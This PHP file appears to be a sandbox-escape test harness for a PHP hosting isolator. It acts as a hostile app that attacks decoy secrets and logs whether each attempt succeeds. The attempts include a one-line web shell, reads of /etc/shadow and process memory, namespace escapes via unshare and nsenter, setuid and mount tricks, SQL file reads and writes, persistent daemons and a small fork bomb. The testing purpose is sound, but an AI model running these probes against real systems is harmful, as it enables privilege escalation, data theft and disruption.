<?php
// What a hostile app tries. Each attempt is told as a line `hostile {json}`:
//   where, name, tried   what was tried, and in which part of the app
//   judge                app: what came back proves it; host: only the host can tell whether anything outside changed
//   succeeded, proof     whether something was reached that is not the app's, and what of it was seen
//   skipped              why it could not be tried here
//   broken               the attempt itself is at fault: the test refuses that
// Everything that it looks for is named in aim.json, which tests/support/decoys.py writes. What it may not see holds a secret that is in no
// file of the app's: quoting it is the proof.
declare(strict_types=1);

namespace Hostile;

const SECRET = '/DECOY-SECRET-[0-9a-f]{16}/';
const EVERY_MS = 200;

final class Skipped extends \RuntimeException
{
}

final class Attempts
{
    public array $made = [];

    public function __construct(private string $where)
    {
    }

    /** `act` gives a proof that it reached outside, else null. */
    public function make(string $name, string $tried, callable $act): void
    {
        $this->add($name, $tried, 'app', $act);
    }

    /** What only the host can judge: whatever `act` gives is no proof. */
    public function force(string $name, string $tried, callable $act): void
    {
        $this->add($name, $tried, 'host', static function () use ($act): null {
            $act();
            return null;
        });
    }

    private function add(string $name, string $tried, string $judge, callable $act): void
    {
        $entry = ['where' => $this->where, 'name' => $name, 'tried' => \substr($tried, 0, 160), 'judge' => $judge, 'succeeded' => false];
        \set_error_handler(static fn (): bool => true);
        try {
            $proof = $act();
            if (\is_string($proof)) {
                $entry['succeeded'] = true;
                $entry['proof'] = \substr($proof, 0, 160);
            }
        } catch (Skipped $why) {
            $entry['skipped'] = $why->getMessage();
        } catch (\Error $fault) {
            $entry['broken'] = \substr($fault->getMessage() . ' at ' . \basename($fault->getFile()) . ':' . $fault->getLine(), 0, 160);
        } catch (\Exception) {
            // Refused, which is what should happen.
        } finally {
            \restore_error_handler();
        }
        $this->made[] = $entry;
    }
}

function aim(string $root): array
{
    return \json_decode(\file_get_contents("$root/aim.json"), true, 16, \JSON_THROW_ON_ERROR);
}

/** Tell attempts, one a line, and then how many there were; whether one succeeded. */
function tell(array $made, mixed $stream, string $where): bool
{
    foreach ($made as $entry) {
        \fwrite($stream, 'hostile ' . \json_encode($entry, \JSON_UNESCAPED_SLASHES | \JSON_INVALID_UTF8_SUBSTITUTE) . "\n");
    }
    $reached = \count(\array_filter($made, static fn (array $entry): bool => $entry['succeeded']));
    \fwrite($stream, \sprintf("hostile: %d attempts, %d succeeded, by %s\n", \count($made), $reached, $where));
    return $reached > 0;
}

/** The first request to a tree tries everything, the first of each worker what is quick, every one writes at the original's path. */
function on_request(string $root): bool
{
    $aim = aim($root);
    $original = $aim['original'];
    @\file_put_contents("$original/var/log/app.log", "request\n", \FILE_APPEND);
    @\mkdir("$root/var/state", 0777, true);
    $stat = (string) @\file_get_contents('/proc/self/stat');
    $started = \explode(' ', \substr($stat, (int) \strrpos($stat, ')') + 2))[19] ?? '0';
    if (@\fopen("$root/var/state/everything", 'x') !== false) {
        @\fopen("$root/var/state/worker-" . \getmypid() . "-$started", 'x');
        $made = everything($root, 'request');
    } elseif (@\fopen("$root/var/state/worker-" . \getmypid() . "-$started", 'x') !== false) {
        $attempts = new Attempts('worker');
        quick($attempts, $aim, $root);
        $made = $attempts->made;
    } else {
        return false;
    }
    return tell($made, \fopen('php://stderr', 'w'), 'a worker') && !$aim['hush'];
}

function everything(string $root, string $where): array
{
    $aim = aim($root);
    $attempts = new Attempts($where);
    quick($attempts, $aim, $root);
    links($attempts, $aim, $root, $where);
    system_files($attempts, $aim, $root, $where);
    network($attempts, $aim);
    processes($attempts, $aim);
    privileges($attempts, $aim, $root, $where);
    database($attempts, $aim, $where);
    post($attempts);
    lasting($attempts, $aim, $root, $where);
    [$code, $said] = run(['php', '-d', 'ffi.enable=1', '-d', 'display_errors=stderr', "$root/native.php", $root, $where], 20);
    foreach (\explode("\n", $said) as $line) {
        if (\str_starts_with($line, '{')) {
            $attempts->made[] = \json_decode($line, true, 16, \JSON_THROW_ON_ERROR);
        }
    }
    if ($code !== 0) {
        $attempts->make('native', 'php native.php', static fn () => throw new \Error("code $code: " . \substr($said, -200)));
    }
    return $attempts->made;
}

function secret_in(string|false|null $text): ?string
{
    return \is_string($text) && \preg_match(SECRET, $text, $found) ? $found[0] : null;
}

function content(string $path, int $most = 65536): ?string
{
    $text = @\file_get_contents($path, false, null, 0, $most);
    return $text === false ? null : $text;
}

/** A program's exit code and what it said. */
function run(array $argv, int $seconds = 3): array
{
    program($argv[0]);
    $pipes = [];
    $process = \proc_open(['timeout', '-k', '1', (string) $seconds, ...$argv], [['file', '/dev/null', 'r'], ['pipe', 'w'], ['redirect', 1]], $pipes);
    if ($process === false) {
        throw new \Exception('cannot be started');
    }
    $said = (string) \stream_get_contents($pipes[1], 1 << 20);
    return [\proc_close($process), $said];
}

function program(string $name): string
{
    foreach (['/usr/bin', '/usr/sbin', '/bin', '/sbin', '/usr/local/bin'] as $folder) {
        if (\is_executable("$folder/$name")) {
            return "$folder/$name";
        }
    }
    throw new Skipped("no $name here");
}

/** What takes milliseconds: files by their paths, and connections. */
function quick(Attempts $attempts, array $aim, string $root): void
{
    original_tree($attempts, $aim);
    foreach ($aim['trees'] as $label => $tree) {
        decoy_tree($attempts, $label, $tree, $aim['spoor']);
    }
    $attempts->make('read the .git of a parent', "$root/../.git/config", static fn () => secret_in(content("$root/../.git/config")));
    $attempts->make('read a neighbour', "$root/../other-site/secret.txt", static fn () => secret_in(content("$root/../other-site/secret.txt")));
    $attempts->make('list the runs', $aim['runs'], static function () use ($aim): ?string {
        $entries = \array_diff(@\scandir($aim['runs']) ?: [], ['.', '..']);
        return $entries ? \implode(' ', $entries) : null;
    });
    foreach ($aim['tcp'] as $decoy) {
        ['kind' => $kind, 'host' => $host, 'port' => $port] = $decoy;
        $attempts->make("tcp $kind $host", "$host:$port", static fn () => heard("tcp://$host:$port", $kind));
    }
    foreach ($aim['unix'] as $path) {
        $attempts->make('unix socket ' . \dirname($path, 2), $path, static fn () => heard("unix://$path", 'redis'));
    }
    foreach ($aim['abstract'] as $name) {
        $attempts->make('abstract socket', "@$name", static fn () => heard("unix://\0$name", 'redis'));
    }
}

function heard(string $address, string $kind): ?string
{
    $stream = @\stream_socket_client($address, $code, $why, 1.0);
    if ($stream === false) {
        return null;
    }
    \stream_set_timeout($stream, 1);
    if ($kind === 'http') {
        @\fwrite($stream, "GET / HTTP/1.0\r\n\r\n");
    } elseif ($kind === 'redis') {
        @\fwrite($stream, "PING\r\n");
    }
    return secret_in(\stream_get_contents($stream, 4096));
}

/** By the paths that the app stands at on the host: inside it may write there, and the host looks whether that arrived. */
function original_tree(Attempts $attempts, array $aim): void
{
    $original = $aim['original'];
    $spoor = $aim['spoor'];
    $attempts->force('append to a log of the original', "$original/var/log/app.log", static function () use ($original): void {
        @\file_put_contents("$original/var/log/app.log", "a line\n", \FILE_APPEND);
    });
    $attempts->force('compile a template in the original', "$original/var/cache", static function () use ($original, $spoor): void {
        @\file_put_contents("$original/var/cache/tpl-$spoor.php", '<?php return 1;');
        @\mkdir("$original/var/cache/dir-$spoor");
    });
    $attempts->force('unlink in the original', "$original/var/cache/old.php", static fn () => @\unlink("$original/var/cache/old.php"));
    $attempts->force('chmod in the original', "$original/var/cache/mode.txt", static fn () => @\chmod("$original/var/cache/mode.txt", 0700));
    $attempts->force('touch in the original', "$original/var/cache/time.txt", static fn () => @\touch("$original/var/cache/time.txt", 1));
    $attempts->force('truncate in the original', "$original/var/cache/full.txt", static fn () => @\fopen("$original/var/cache/full.txt", 'w'));
    $attempts->force('replace by a link in the original', "$original/var/cache/replaced.txt", static function () use ($original, $spoor): void {
        @\symlink('/etc/passwd', "$original/var/cache/link-$spoor");
        @\rename("$original/var/cache/link-$spoor", "$original/var/cache/replaced.txt");
    });
    $attempts->force('rename a directory of the original', "$original/var/moved", static fn () => @\rename("$original/var/moved", "$original/var/gone-$spoor"));
    $attempts->force('hard link within the original', "$original/var/cache/twice.txt", static function () use ($original, $spoor): void {
        @\link("$original/var/cache/twice.txt", "$original/var/cache/thrice-$spoor");
    });
    $attempts->force('change the code of the original', "$original/public/index.php", static function () use ($original, $spoor): void {
        @\file_put_contents("$original/public/shell-$spoor.php", '<?php system($_GET["c"]);');
        @\chmod("$original/public/index.php", 0666);
    });
}

/** A directory that everybody on the host may read and write. */
function decoy_tree(Attempts $attempts, string $label, string $tree, string $spoor): void
{
    $attempts->make("read $label", "$tree/secret.txt", static fn () => secret_in(content("$tree/secret.txt")));
    $attempts->make("include $label", "$tree/config.php", static fn () => secret_in((string) @include "$tree/config.php"));
    $attempts->make("list $label", $tree, static fn () => \in_array('mailbox', @\scandir($tree) ?: [], true) ? 'mailbox' : null);
    $attempts->force("write to $label", "$tree/$spoor", static function () use ($tree, $spoor): void {
        @\file_put_contents("$tree/secret.txt", "spoilt\n", \FILE_APPEND);
        @\mkdir($tree, 0777, true);
        @\file_put_contents("$tree/$spoor", 'here');
        @\unlink("$tree/doomed.txt");
        @\chmod("$tree/mode.txt", 0777);
        @\rename("$tree/moved.txt", "$tree/moved-$spoor");
    });
    $attempts->force("write beside $label", \dirname($tree) . "/$spoor", static function () use ($tree, $spoor): void {
        @\file_put_contents(\dirname($tree) . "/$spoor", 'here');
    });
}

/** Links out of the app's own tree. */
function links(Attempts $attempts, array $aim, string $root, string $where): void
{
    $folder = "$root/var/links-$where";
    @\mkdir($folder, 0777, true);
    foreach ($aim['trees'] as $label => $tree) {
        $attempts->make("link to $label", "$tree/secret.txt", static function () use ($folder, $label, $tree): ?string {
            @\symlink($tree, "$folder/soft-$label");
            return secret_in(content("$folder/soft-$label/secret.txt"));
        });
        $attempts->make("hard link to $label", "$tree/secret.txt", static function () use ($folder, $label, $tree): ?string {
            @\link("$tree/secret.txt", "$folder/hard-$label");
            return secret_in(content("$folder/hard-$label"));
        });
    }
    $up = \str_repeat('../', 40);
    $attempts->make('up and down again', $up, static fn () => secret_in(content($folder . '/' . $up . \ltrim($aim['trees']['home'], '/') . '/secret.txt')));
}

function system_files(Attempts $attempts, array $aim, string $root, string $where): void
{
    $attempts->make('read /etc/shadow', '/etc/shadow', static fn () => content('/etc/shadow'));
    $attempts->make('list /root', '/root', static fn () => \array_diff(@\scandir('/root') ?: [], ['.', '..']) ? 'it has entries' : null);
    $opened = ['/etc/passwd', '/etc/shadow', '/etc/hosts', '/usr/bin/env', '/usr/bin/php', '/bin/sh', '/proc/sys/kernel/core_pattern',
        '/proc/sys/kernel/hostname', '/proc/sys/vm/nr_hugepages', '/proc/sys/net/core/somaxconn', '/proc/sys/fs/pipe-max-size',
        '/proc/sysrq-trigger', '/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/sys/kernel/mm/transparent_hugepage/enabled',
        '/sys/kernel/uevent_helper', '/sys/power/state'];
    foreach ($opened as $path) {
        // Opened only: nothing is written, so that where it succeeds the host stays as it is.
        $attempts->make("open $path for writing", $path, static fn () => @\fopen($path, 'r+') !== false ? 'opened' : null);
    }
    $spoor = $aim['spoor'];
    foreach (['/etc', '/usr/bin', '/usr/lib', '/usr/local/bin', '/var/lib', '/var/spool', '/opt', '/boot', '/root'] as $folder) {
        $attempts->make("make a file in $folder", "$folder/$spoor", static function () use ($folder, $spoor): ?string {
            if (@\file_put_contents("$folder/$spoor", 'here') === false) {
                return null;
            }
            @\unlink("$folder/$spoor");
            return 'made, and removed again';
        });
    }
    foreach (\glob('/sys/fs/cgroup{,/*}', \GLOB_BRACE | \GLOB_ONLYDIR) ?: ['/sys/fs/cgroup'] as $folder) {
        $attempts->make("make a cgroup in $folder", "$folder/$spoor", static function () use ($folder, $spoor): ?string {
            if (!@\mkdir("$folder/$spoor")) {
                return null;
            }
            @\rmdir("$folder/$spoor");
            return 'made, and removed again';
        });
        $attempts->make("open cgroup.procs of $folder", $folder, static fn () => @\fopen("$folder/cgroup.procs", 'r+') !== false ? 'opened' : null);
    }
    $attempts->make('leave the own cgroup', '/proc/self/cgroup', static function (): ?string {
        foreach (\file('/proc/self/cgroup', \FILE_IGNORE_NEW_LINES) ?: [] as $line) {
            [, $kinds, $path] = \explode(':', $line, 3);
            foreach (['', '/' . \str_replace('name=', '', $kinds), '/unified'] as $tree) {
                foreach (['cgroup.procs', 'memory.max', 'memory.limit_in_bytes', 'cpu.max'] as $file) {
                    if (@\fopen("/sys/fs/cgroup$tree$path/$file", 'r+') !== false) {
                        return "/sys/fs/cgroup$tree$path/$file opened";
                    }
                }
            }
        }
        return null;
    });
    $attempts->make('the note of the guardian', $aim['live_root'], static function () use ($aim): ?string {
        foreach (\glob($aim['live_root'] . '/phpdyno-*/owner.json') ?: [] as $note) {
            if (@\fopen($note, 'r+') !== false) {
                return "$note opened for writing";
            }
        }
        return null;
    });
    $attempts->make('configuration of the servers', $aim['live_root'], static function () use ($aim): ?string {
        $found = \glob($aim['live_root'] . '/phpdyno-*/{,*/,*/*/}*.{conf,ini,cnf}', \GLOB_BRACE) ?: [];
        foreach ($found as $file) {
            if (@\fopen($file, 'r+') !== false) {
                return "$file opened for writing";
            }
        }
        return null;
    });
    $attempts->make('inherited descriptors', '/proc/self/fd', static function () use ($root): ?string {
        foreach (@\scandir('/proc/self/fd') ?: [] as $number) {
            $leads = (string) @\readlink("/proc/self/fd/$number");
            if (\str_contains($leads, 'journal') || (\str_starts_with($leads, '/') && !\str_starts_with($leads, '/proc/') && \is_dir($leads))) {
                return "$number leads to $leads";
            }
        }
        return null;
    });
    foreach (['c 1 1', 'b 254 0', 'c 10 200'] as $device) {
        $place = "$root/var/device-$where-" . \strtr($device, ' ', '-');
        $attempts->make("device node $device", $place, static fn () => run(['mknod', $place, ...\explode(' ', $device)])[0] === 0 ? 'made' : null);
    }
}

function network(Attempts $attempts, array $aim): void
{
    foreach ($aim['tcp'] as ['kind' => $kind, 'host' => $host, 'port' => $port]) {
        if ($kind === 'http') {
            $attempts->make("http $host", "file_get_contents('http://$host:$port/')", static function () use ($host, $port): ?string {
                return secret_in(@\file_get_contents("http://$host:$port/", false, \stream_context_create(['http' => ['timeout' => 1.0]])));
            });
            $attempts->make("curl $host", "http://$host:$port/", static fn () => secret_in(run(['curl', '-sm', '2', "http://$host:$port/"])[1]));
        }
        if ($kind === 'mariadb') {
            $attempts->force("mysqli $host", "$host:$port", static function () use ($host, $port): void {
                if (!\class_exists(\mysqli::class)) {
                    throw new Skipped('no mysqli here');
                }
                $link = \mysqli_init();
                $link->options(\MYSQLI_OPT_CONNECT_TIMEOUT, 1);
                $link->real_connect(\trim($host, '[]'), 'root', '', 'mysql', $port);
            });
        }
    }
    foreach ($aim['udp'] as ['host' => $host, 'port' => $port]) {
        $attempts->make("udp $host", "$host:$port", static function () use ($host, $port): ?string {
            $stream = @\stream_socket_client("udp://$host:$port", $code, $why, 1.0);
            if ($stream === false) {
                return null;
            }
            \stream_set_timeout($stream, 0, 300_000);
            @\fwrite($stream, 'hello');
            return secret_in(@\fread($stream, 512));
        });
    }
    // Connecting a UDP socket asks for a route and sends nothing.
    foreach (['198.51.100.53', '[2001:db8::53]'] as $host) {
        $attempts->make("a route to $host", "udp $host:53", static fn () => @\stream_socket_client("udp://$host:53") !== false ? 'there is one' : null);
    }
    $attempts->make('look a name up', 'gethostbyname', static function (): ?string {
        if (@\stream_socket_client('udp://198.51.100.53:53') !== false) {
            throw new Skipped('there is a route out, and the question would leave this machine');
        }
        return \gethostbyname('name.invalid') !== 'name.invalid' ? 'an answer' : null;
    });
    $attempts->make('interfaces', '/proc/net/dev', static function (): ?string {
        \preg_match_all('/^\s*([^\s:|]+):/m', (string) content('/proc/net/dev'), $found);
        // Ends of tunnels that the kernel puts into every network namespace lead nowhere until somebody sets them up.
        $tunnels = ['sit0', 'tunl0', 'ip6tnl0', 'gre0', 'gretap0', 'erspan0', 'ip_vti0', 'ip6_vti0', 'ip6gre0'];
        $others = \array_diff($found[1], ['lo', ...$tunnels]);
        return $others ? \implode(' ', $others) : null;
    });
    $attempts->make('sockets of the host', '/proc/*/net/{tcp,tcp6,unix}', static function () use ($aim): ?string {
        $ports = \array_map(static fn (array $decoy): string => \sprintf(':%04X ', $decoy['port']), $aim['tcp']);
        foreach ([...\glob('/proc/[0-9]*/net/{tcp,tcp6,unix}', \GLOB_BRACE) ?: [], '/proc/net/tcp', '/proc/net/unix'] as $file) {
            $text = (string) content($file, 1 << 20);
            if (\str_contains($text, $aim['token'])) {
                return "$file names a socket of the host";
            }
            foreach (\str_ends_with($file, 'unix') ? [] : $ports as $port) {
                if (\preg_match('/^\s*\d+: [0-9A-F]+' . $port . '[0-9A-F:]+ 0A /m', $text)) {
                    return "$file names port $port";
                }
            }
        }
        return null;
    });
}

/** Whether this number is the decoy's, which has the token for a whole argument, as seen from here: within a PID namespace it may be one of the app's own. */
function decoy_seen(array $aim): bool
{
    return \str_contains((string) content("/proc/{$aim['pid']}/cmdline"), "\0{$aim['token']}\0");
}

function processes(Attempts $attempts, array $aim): void
{
    $pid = $aim['pid'];
    $attempts->make('environment', 'getenv()', static fn () => secret_in(\serialize([\getenv(), $_SERVER, $_ENV]) . content('/proc/self/environ')));
    $attempts->make('see the processes of the host', '/proc/*/cmdline', static function () use ($aim): ?string {
        foreach (\glob('/proc/[0-9]*/cmdline') ?: [] as $file) {
            $line = (string) content($file);
            if (\str_contains($line, "\0{$aim['token']}\0") || \str_contains($line, "phpdyno\0compare\0")) {
                return "$file: " . \strtr($line, "\0", ' ');
            }
        }
        return null;
    });
    $attempts->make('read environments', '/proc/*/environ', static function (): ?string {
        foreach (\glob('/proc/[0-9]*/environ') ?: [] as $file) {
            if ($found = secret_in(content($file, 1 << 18))) {
                return "$file: $found";
            }
        }
        return null;
    });
    $attempts->make('pass through roots of processes', '/proc/*/root', static function () use ($aim): ?string {
        foreach (\glob('/proc/[0-9]*', \GLOB_ONLYDIR) ?: [] as $process) {
            foreach ($aim['trees'] as $tree) {
                if (secret_in(content("$process/root$tree/secret.txt"))) {
                    return "$process/root$tree/secret.txt";
                }
            }
        }
        return null;
    });
    $attempts->make('pass through working directories', '/proc/*/cwd', static function (): ?string {
        foreach (\glob('/proc/[0-9]*', \GLOB_ONLYDIR) ?: [] as $process) {
            if (secret_in(content("$process/cwd/secret.txt"))) {
                return "$process/cwd/secret.txt";
            }
        }
        return null;
    });
    $attempts->make('read maps', "/proc/$pid/maps", static fn () => decoy_seen($aim) && content("/proc/$pid/maps") ? 'read' : null);
    $attempts->make('read memory', "/proc/$pid/mem", static function () use ($aim, $pid): ?string {
        \preg_match('/^([0-9a-f]+)-([0-9a-f]+) .*\[stack\]$/m', (string) content("/proc/$pid/maps", 1 << 20), $range);
        $memory = $range && decoy_seen($aim) ? @\fopen("/proc/$pid/mem", 'rb') : false;
        if ($memory === false) {
            return null;
        }
        \stream_set_read_buffer($memory, 0);
        \fseek($memory, (int) \hexdec($range[2]) - 16384);
        return secret_in(\fread($memory, 16384));
    });
    $attempts->make('signal by posix_kill', "process $pid", static function () use ($aim, $pid): ?string {
        if (!\function_exists('posix_kill')) {
            throw new Skipped('no posix here');
        }
        return \posix_kill($pid, 23) && decoy_seen($aim) ? 'SIGURG delivered' : null;
    });
    $attempts->make('signal by exec', "process $pid", static fn () => run(['sh', '-c', "kill -s URG $pid"])[0] === 0 && decoy_seen($aim) ? 'SIGURG delivered' : null);
    $attempts->make('renice', "process $pid", static fn () => run(['renice', '-n', '19', '-p', (string) $pid])[0] === 0 && decoy_seen($aim) ? 'slower now' : null);
    $attempts->make('taskset', "process $pid", static fn () => run(['taskset', '-p', '1', (string) $pid])[0] === 0 && decoy_seen($aim) ? 'moved' : null);
    $attempts->make('strace', "process $pid", static function () use ($aim, $pid): ?string {
        $said = run(['strace', '-p', (string) $pid, '-e', 'trace=none'], 1)[1];
        return \str_contains($said, ' attached') && decoy_seen($aim) ? 'attached' : null;
    });
}

function privileges(Attempts $attempts, array $aim, string $root, string $where): void
{
    $status = (string) content('/proc/self/status');
    $attempts->make('no new privileges', '/proc/self/status', static fn () => \preg_match('/^NoNewPrivs:\s*1$/m', $status) ? null : 'NoNewPrivs is not 1');
    foreach (['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'] as $set) {
        $attempts->make("capabilities $set", '/proc/self/status', static fn () => \preg_match("/^$set:\s*0+$/m", $status) ? null : "$set is not 0");
    }
    $attempts->make('identity', '/proc/self/status', static fn () => \preg_match('/^[UG]id:.*\t0(\t|$)/m', $status) ? 'root' : null);
    $attempts->make('groups', '/proc/self/status', static function () use ($status): ?string {
        \preg_match('/^Gid:\s*(\d+)/m', $status, $own);
        \preg_match('/^Groups:[ \t]*(.*)$/m', $status, $held);
        $others = \array_diff(\preg_split('/\s+/', \trim($held[1]), -1, \PREG_SPLIT_NO_EMPTY), [$own[1]]);
        return $others ? \implode(' ', $others) : null;
    });
    foreach (['su', 'passwd', 'sudo', 'chsh', 'newgrp', 'mount', 'umount', 'ping', 'newuidmap', 'pkexec'] as $name) {
        $attempts->make("raised by $name", $name, static function () use ($name): ?string {
            $path = program($name);
            if (!(\fileperms($path) & 04000)) {
                throw new Skipped("$path is not setuid");
            }
            // It waits for a password or ends at once; while it waits the kernel says who it is.
            $process = \proc_open([$path], [['pipe', 'r'], ['pipe', 'w'], ['pipe', 'w']], $pipes);
            $proof = null;
            for ($turn = 0; $process !== false && $proof === null && $turn < 20; ++$turn) {
                $now = \proc_get_status($process);
                if (\preg_match('/^Uid:\t\d+\t0\t/m', (string) content("/proc/{$now['pid']}/status"))) {
                    $proof = "$path runs as root";
                }
                if (!$now['running']) {
                    break;
                }
                \usleep(3000);
            }
            if ($process !== false) {
                \proc_terminate($process, 9);
                \array_map(\fclose(...), $pipes);
                \proc_close($process);
            }
            return $proof;
        });
    }
    $attempts->make('sudo without a password', 'sudo -n id', static fn () => \str_contains(run(['sudo', '-n', 'id'])[1], 'uid=0') ? 'root' : null);
    $attempts->force('a setuid file', "$root/var", static function () use ($root, $where): void {
        @\copy('/usr/bin/id', "$root/var/setuid-$where");
        @\chmod("$root/var/setuid-$where", 06755);
    });
    $attempts->make('remount', 'mount -o remount,rw /', static fn () => run(['mount', '-o', 'remount,rw', '/'])[0] === 0 ? 'done' : null);
    $attempts->make('bind mount', 'mount --bind', static fn () => run(['mount', '--bind', '/etc', "$root/var"])[0] === 0 ? 'done' : null);
    $attempts->make('umount /tmp', 'umount -l /tmp', static fn () => run(['umount', '-l', '/tmp'])[0] === 0 ? 'done' : null);
    foreach (['-m', '-n', '-p', '-i', '-u', '-C'] as $kind) {
        $attempts->make("unshare $kind", "unshare $kind true", static fn () => run(['unshare', $kind, ...($kind === '-p' ? ['-f'] : []), 'true'])[0] === 0 ? 'done' : null);
    }
    $files = \array_map(static fn (string $tree): string => "$tree/secret.txt", \array_values($aim['trees']));
    $looks = 'umount -l /tmp; umount -l /var/tmp; umount -l /dev/shm; umount -l /run; umount -l /home; umount -l /srv; umount -l /root; umount -l /proc;'
        . ' mount -t proc proc /proc; mount -o remount,rw /; cat "$@"; cat /proc/*/environ';
    foreach (['-Ur', '-Urm', '-Urmpf', '-Urmn'] as $kind) {
        $attempts->make("look around in a user namespace ($kind)", "unshare $kind sh", static function () use ($kind, $looks, $files): ?string {
            return secret_in(run(['unshare', $kind, 'sh', '-c', $looks, 'sh', ...$files])[1]);
        });
    }
    foreach ([1, $aim['pid']] as $number) {
        $attempts->make($number === 1 ? 'enter process 1' : 'enter the decoy', "nsenter -t $number -a", static function () use ($number, $files): ?string {
            return secret_in(run(['nsenter', '-t', (string) $number, '-a', 'cat', ...$files])[1]);
        });
    }
}

/** The private database is the app's, and reads and writes files with its server's rights. */
function database(Attempts $attempts, array $aim, string $where): void
{
    if ($where === 'script') {
        return;
    }
    \mysqli_report(\MYSQLI_REPORT_OFF);
    $link = @new \mysqli('localhost', 'anybody', 'any password', (string) \getenv('PHPDYNO_DB_NAME'));
    if ($link->connect_errno) {
        $attempts->make('private database', 'mysqli', static fn () => throw new \Error('the private database is not reached: ' . $link->connect_error));
        return;
    }
    $spoor = $aim['spoor'];
    foreach ([...$aim['trees'], 'original' => $aim['original']] as $label => $tree) {
        $attempts->make("database reads $label", "LOAD_FILE('$tree/secret.txt')", static function () use ($link, $tree): ?string {
            $result = $link->query("SELECT LOAD_FILE('$tree/secret.txt')");
            return $result ? secret_in($result->fetch_row()[0]) : null;
        });
        $attempts->force("database writes $label", "INTO OUTFILE '$tree/db-$spoor'", static function () use ($link, $tree, $spoor, $label): void {
            $link->query("SELECT 1 INTO OUTFILE '$tree/db-$spoor'");
            $link->query("SELECT 1 INTO OUTFILE '$tree/var/cache/db-$spoor'");
            $link->query('CREATE TABLE `t_' . $label . \bin2hex(\random_bytes(4)) . "` (a INT) ENGINE=InnoDB DATA DIRECTORY='$tree'");
        });
    }
}

function post(Attempts $attempts): void
{
    // app.toml's sendmail_path is a program in a decoy tree that writes into a mailbox there.
    $attempts->force('mail()', 'mail()', static fn () => @\mail('nobody@localhost', 'hostile', 'hello'));
}

/** What stays behind when whoever made it has ended. */
function lasting(Attempts $attempts, array $aim, string $root, string $where): void
{
    $attempts->force('a daemon', 'setsid, twice forked', static function () use ($aim, $root, $where): void {
        $told = \json_encode(['root' => $root, 'where' => $where, 'port' => $aim['daemon_port'], 'spoor' => $aim['spoor'],
            'trees' => \array_values($aim['trees']), 'original' => $aim['original'], 'hosts' => $aim['own']]);
        run(['perl', "$root/daemon.pl", 'hostile-daemon-' . $aim['spoor'], $told]);
    });
    $attempts->force('shared memory that stays', 'shmop_open', static function () use ($aim): void {
        if (!\function_exists('shmop_open')) {
            throw new Skipped('no shmop here');
        }
        @\shmop_open($aim['left_key'], 'c', 0666, 64);
    });
    $attempts->force('files in shared places', '/tmp', static function () use ($aim, $where): void {
        foreach (['/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', '/dev/mqueue', '/run/user', '/var/lib/php/sessions', '/var/log', '/var/mail'] as $folder) {
            @\file_put_contents("$folder/{$aim['spoor']}-$where", 'here');
        }
    });
}

/** Of `prepare` only: what whoever copies, changes or removes the tree as root has to live with. */
function leave_a_mess(string $root): void
{
    $aim = aim($root);
    \set_error_handler(static fn (): bool => true);
    \mkdir("$root/var/mess", 0777, true);
    \mkdir("$root/var/mess/closed", 0700);
    \file_put_contents("$root/var/mess/closed/inner", 'x');
    \mkdir("$root/var/mess/unreadable", 0777);
    \file_put_contents("$root/var/mess/unreadable/inner", 'x');
    \chmod("$root/var/mess/unreadable", 0000);
    \file_put_contents("$root/var/mess/line\nfeed", 'x');
    \file_put_contents("$root/var/mess/\xff\xfe\x01", 'x');
    \file_put_contents("$root/var/mess/-rf", 'x');
    if (\function_exists('posix_mkfifo')) {
        \posix_mkfifo("$root/var/mess/fifo", 0666);
        \posix_mkfifo("$root/public/fifo.txt", 0666);
    }
    \symlink('loop', "$root/var/mess/loop");
    \symlink('/proc/self/fd/0', "$root/var/mess/input");
    \symlink('/', "$root/var/mess/everything");
    $deep = 'chdir $ARGV[0]; for (1 .. 1500) { mkdir "dddd" or last; chdir "dddd" or last; }';
    run(['perl', '-e', $deep, "$root/var/mess"], 10);
    \chmod("$root/var/mess/closed", 0000);
    run(['perl', "$root/flip.pl", 'hostile-flip-' . $aim['spoor'], $root, $aim['trees']['home'], $aim['original']]);
    // At most 200 processes for 2 seconds.
    run(['perl', '-e', 'for (1 .. 200) { my $p = fork; last unless defined $p; next if $p; close STDOUT; close STDERR; sleep 2; exit; }', 'hostile-bomb-' . $aim['spoor']]);
}
